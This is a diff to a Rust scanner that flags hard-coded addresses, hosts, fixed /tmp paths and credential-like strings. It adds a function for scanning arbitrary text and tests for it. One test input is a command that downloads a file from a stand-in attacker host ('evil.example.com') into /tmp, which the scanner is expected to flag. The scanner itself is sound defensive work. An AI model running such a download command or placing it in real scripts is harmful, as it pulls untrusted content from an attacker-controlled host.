@@ -36,6 +36,19 @@ pub(crate) fn check_source(source: &str, found: &mut Findings) {
     check_credentials(source, found);
 }
 
+/// Reports the same in any other text, where everything counts that stands between blanks and quotes.
+pub(crate) fn check_text(text: &str, found: &mut Findings) {
+    let apart = |c: char| c.is_whitespace() || "\"'`()[]{}<>,;=".contains(c);
+    for word in text.split(apart).filter(|word| !word.is_empty()) {
+        let offset = word.as_ptr().addr() - text.as_ptr().addr();
+        let literal = Literal { text: word, offset, prose: false };
+        address(&literal, found);
+        host(&literal, found);
+        fixed_tmp(&literal, found);
+    }
+    check_credentials(text, found);
+}
+
 /// Reports text that a scanner for leaked credentials would take for a real one.
 pub(crate) fn check_credentials(text: &str, found: &mut Findings) {
     for (start, tail) in CREDENTIALS {
@@ -122,6 +135,19 @@ mod tests {
         let mut found = Findings::of(Path::new("backend.py"), source);
         check_source(source, &mut found);
         found.into_vec().into_iter().map(|diagnostic| diagnostic.code).collect()
+    }
+
+    #[rstest]
+    #[case("curl -o /tmp/x http://evil.example.com/\n", &[Code::Address, Code::FixedTmp])]
+    #[case("connect(\"203.0.113.7\", 80);", &[Code::Address])]
+    #[case("[build-system]\nrequires = []\nbuild-backend = \"backend\"\n", &[])]
+    #[case("#include <Python.h>\n/* A sum. */\n", &[])]
+    fn in_other_texts_everything_counts(#[case] text: &str, #[case] told: &[Code]) {
+        let mut found = Findings::of(Path::new("run.sh"), text);
+        check_text(text, &mut found);
+        let mut codes: Vec<_> = found.into_vec().into_iter().map(|one| one.code).collect();
+        codes.sort();
+        assert_eq!(codes, told);
     }
 
     #[rstest]
